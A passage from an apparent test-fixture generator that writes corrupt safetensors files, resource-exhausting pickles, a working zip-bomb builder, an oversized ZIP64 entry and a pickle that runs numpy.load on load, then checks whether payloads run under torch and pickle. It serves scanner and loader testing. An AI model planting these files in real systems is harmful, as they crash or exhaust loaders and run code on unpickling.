        b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, '
        b'"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}')),
        "corrupt", "the same tensor name twice", scan_error(), opens("error"))
    add("st_trailing_bytes.safetensors", safetensors(good, F32x2 + b"\0" * 8), "corrupt",
        "8 bytes after the last tensor", scan_error(), opens("error"))
    add("st_overlap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                               "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}},
                                              F32x2 + F32x2[:4]),
        "corrupt", "two tensors whose bytes overlap", scan_error(), opens("error"))
    add("st_gap.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                                           "b": {"dtype": "F32", "shape": [1], "data_offsets": [12, 16]}},
                                          F32x2 + F32x2), "corrupt", "a gap between two tensors",
        scan_error(), opens("error"))
    add("st_negative_offset.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2],
                                                             "data_offsets": [-8, 0]}}, F32x2),
        "corrupt", "a negative data offset", scan_error(), opens("error"))
    add("st_float_offset.safetensors", safetensors(None, F32x2, raw_header=(
        b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0.0, 8.0]}}')), "corrupt",
        "data offsets written as floats (serde refuses them for integers)", scan_error(), opens("error"))
    add("st_string_offset.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2],
                                                           "data_offsets": ["0", "8"]}}, F32x2),
        "corrupt", "data offsets written as strings", scan_error(), opens("error"))
    add("st_huge_offset.safetensors", safetensors(None, F32x2, raw_header=(
        b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 99999999999999999999999]}}')), "corrupt",
        "a data offset beyond 2^64", scan_error(), opens("error"))
    add("st_shape_overflow.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1 << 32, 1 << 32, 1 << 32],
                                                            "data_offsets": [0, 8]}}, F32x2), "limit",
        "a shape whose element count overflows 64 bits", scan_error(), opens("error"))
    add("st_shape_mismatch.safetensors", safetensors({"a": {"dtype": "F32", "shape": [3],
                                                            "data_offsets": [0, 8]}}, F32x2), "corrupt",
        "shape [3] of F32 needs 12 bytes, the offsets give 8", scan_error(), opens("error"))
    add("st_negative_dim.safetensors", safetensors({"a": {"dtype": "F32", "shape": [-2],
                                                          "data_offsets": [0, 8]}}, F32x2), "corrupt",
        "a negative dimension", scan_error(), opens("error"))
    add("st_unknown_dtype.safetensors", safetensors({"a": {"dtype": "F128", "shape": [2],
                                                           "data_offsets": [0, 8]}}, F32x2), "corrupt",
        "an unknown dtype", scan_error(), opens("error"))
    add("st_not_json.safetensors", safetensors(None, F32x2, raw_header=b"{this is not json}"), "corrupt",
        "the header is not JSON", scan_error(), opens("error"))
    add("st_json_array.safetensors", safetensors(None, b"", raw_header=b"[1, 2, 3]"), "corrupt",
        "the header is a JSON array, not an object", scan_error(), opens("error"))
    add("st_metadata_not_strings.safetensors", safetensors({"__metadata__": {"epoch": 3}, **good}, F32x2), "corrupt",
        "__metadata__ holds a number", scan_error(), opens("error"))
    add("st_missing_fields.safetensors", safetensors({"a": {"dtype": "F32"}}, b""), "corrupt",
        "a tensor entry without shape and offsets", scan_error(), opens("error"))
    add("st_end_before_begin.safetensors", safetensors({"a": {"dtype": "F32", "shape": [0],
                                                              "data_offsets": [8, 0]}}, F32x2), "corrupt",
        "a tensor whose end offset lies before its begin", scan_error(), opens("error"))
    add("st_too_short.safetensors", b"\x10\x00\x00", "corrupt", "three bytes", scan_error(), opens("error"))
    add("st_truncated_data.safetensors", safetensors(good, F32x2[:5]), "corrupt",
        "the data buffer is 3 bytes short", scan_error(), opens("error"))
    nested = b"[" * 100_000 + b"]" * 100_000
    add("st_deep_json.safetensors", safetensors(None, b"", raw_header=b'{"__metadata__": ' + nested + b"}"),
        "limit", "a header nesting JSON arrays 100 000 deep", scan_error(), opens("error"))

    # ------------------------------------------------------------ limits inside pickles
    deep = proto(2) + b"]" * 200_000 + b"a" * 199_999 + STOP
    add("limit_deep_nesting.pt", replace_record(clean_zip, "data.pkl", deep), "limit",
        "data.pkl nests 200 000 lists inside each other (a recursive reader overflows its stack)",
        {"exit": 0}, opens("error-or-warning"))
    many_marks = proto(2) + MARK * 1_100_000 + STOP
    add("limit_many_marks.pt", replace_record(clean_zip, "data.pkl", many_marks), "limit",
        "data.pkl pushes 1.1 million MARKs", scan_error(), opens("error"))
    wide = proto(2) + b"N" * 1_100_000 + STOP
    add("limit_wide_stack.pt", replace_record(clean_zip, "data.pkl", wide), "limit",
        "data.pkl pushes 1.1 million values without collecting them", scan_error(), opens("error"))
    bomb = zip_bomb(clean_zip, clean_pkl)
    add("limit_zip_bomb.pt", bomb, "limit",
        "data.pkl is DEFLATE data of 1 MiB that declares 1 KiB but inflates to 1 GiB of zeros (a zip bomb)",
        scan_error(), opens("error"))
    add("limit_declared_huge.pt", declare_huge(clean_zip), "limit",
        "a DEFLATE data.pkl whose ZIP64 directory entry declares 16 EiB", scan_error(), opens("error"))


def legacy_pickles_end(data):
    """Offset after the fifth pickle of a legacy stream."""
    f = io.BytesIO(data)
    for _ in range(5):
        for op, _, _ in pickletools.genops(f):
            if op.name == "STOP":
                break
    return f.tell()


def numpy_load_call():
    class NumpyLoad:
        def __reduce__(self):
            import numpy
            return (numpy.load, ("/nonexistent.npy",))
    return NumpyLoad()


def zip_bomb(clean_zip, clean_pkl):
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 20)
    raw = b"".join(zeros.compress(chunk) for _ in range(1024)) + zeros.flush()
    data = rewrite_zip(clean_zip, lambda n, p: [(n, p)],
                       compress=lambda n: zipfile.ZIP_DEFLATED if n.endswith("data.pkl") else zipfile.ZIP_STORED)
    z = zipfile.ZipFile(io.BytesIO(data))
    info = [i for i in z.infolist() if i.filename.endswith("data.pkl")][0]
    # rebuild: replace the compressed bytes of data.pkl by the bomb, keep a small declared size
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as w:
        for i in z.infolist():
            if i.filename.endswith("data.pkl"):
                continue
            w.writestr(zipfile.ZipInfo(i.filename, date_time=(1980, 1, 1, 0, 0, 0)), z.read(i))
    base = out.getvalue()
    name = info.filename.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0x21, 0, len(raw), 1024, len(name), 0) + name
    body = local + raw
    e = eocd(base)
    cd_off = struct.unpack("<I", base[e + 16:e + 20])[0]
    cd_size = struct.unpack("<I", base[e + 12:e + 16])[0]
    entries = struct.unpack("<H", base[e + 10:e + 12])[0]
    shift = len(body)
    cd = bytearray(base[cd_off:cd_off + cd_size])
    p = 0
    while p < len(cd):
        off = struct.unpack("<I", cd[p + 42:p + 46])[0]
        cd[p + 42:p + 46] = struct.pack("<I", off + shift)
        n, m, k = struct.unpack("<HHH", cd[p + 28:p + 34])
        p += 46 + n + m + k
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0x21, 0, len(raw), 1024, len(name), 0, 0,
                          0, 0, 0, 0) + name
    new_cd = central + bytes(cd)
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, entries + 1, entries + 1, len(new_cd), cd_off + shift, 0)
    return body + base[:cd_off] + new_cd + end


def declare_huge(clean_zip):
    data = rewrite_zip(clean_zip, lambda n, p: [(n, p)],
                       compress=lambda n: zipfile.ZIP_DEFLATED if n.endswith("data.pkl") else zipfile.ZIP_STORED)
    cd = data.find(b"PK\x01\x02")
    name_len, extra_len = struct.unpack("<HH", data[cd + 28:cd + 32])
    extra = struct.pack("<HHQ", 1, 8, (1 << 64) - 1)
    entry = bytearray(data[cd:cd + 46 + name_len + extra_len])
    entry[24:28] = struct.pack("<I", 0xFFFFFFFF)
    entry[30:32] = struct.pack("<H", extra_len + len(extra))
    entry = bytes(entry) + extra
    out = data[:cd] + entry + data[cd + 46 + name_len + extra_len:]
    e = eocd(out)
    size = struct.unpack("<I", out[e + 12:e + 16])[0]
    return out[:e + 12] + struct.pack("<I", size + len(extra)) + out[e + 16:]


# ---------------------------------------------------------------- verification with the real loaders

def torch_outcome(path):
    """What torch 2.13 itself does with a broken file (weights_only=True, so nothing runs)."""
    code = ("import torch,sys\ntry:\n torch.load(sys.argv[1], weights_only=True); print('LOADS')\n"
            "except Exception as e:\n print('FAILS', type(e).__name__, str(e).splitlines()[0][:150] if str(e) else '')")
    r = subprocess.run([sys.executable, "-c", code, path], capture_output=True, text=True, timeout=300)
    out = (r.stdout.strip().splitlines() or ["CRASH " + r.stderr.strip()[-150:]])[-1]
    return "torch 2.13 loads it" if out == "LOADS" else "torch 2.13 refuses it: " + out[6:]


def verify(entry, path):
    how = entry["_verify"]
    if how is None:
        return torch_outcome(path) if entry["category"] in ("corrupt", "limit") else None
    python = {"torch": sys.executable, "torch113": "/usr/bin/python3", "pickle": sys.executable,
              "pickle113": "/usr/bin/python3"}[how]
    if how.startswith("pickle"):
        code = "import pickle,sys; pickle.load(open(sys.argv[1],'rb'))"
    else:
        code = "import torch,sys; torch.load(sys.argv[1]%s)" % (", weights_only=False" if how == "torch" else "")
    r = subprocess.run([python, "-c", code, path], capture_output=True, text=True, timeout=120)
    ran = MARKER in r.stdout
    loader = {"torch": "torch.load(weights_only=False), torch %s" % torch.__version__,
              "torch113": "torch.load, torch 1.13", "pickle": "pickle.load",
              "pickle113": "pickle.load with torch 1.13"}[how]
    return ("payload ran under " if ran else "payload did NOT run under ") + loader


def main():
    build()
    verify_all = "--verify" in sys.argv
    manifest = []
    names = set()
    for e in ENTRIES:
        assert e["file"] not in names, e["file"]
        names.add(e["file"])
        path = os.path.join(HERE, e["file"])
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(e["_data"])
        m = {k: v for k, v in e.items() if not k.startswith("_")}
        if verify_all:
            v = verify(e, path)
            if v:
                m["verified"] = v
                print(e["file"], "->", v)
        manifest.append(m)
    with open(os.path.join(HERE, "manifest.json"), "w") as f:
        json.dump({"generator": "make_hostile.py", "torch_version": torch.__version__, "files": manifest}, f,
                  indent=1, ensure_ascii=False)
        f.write("\n")
    print(len(manifest), "files")


if __name__ == "__main__":
    main()
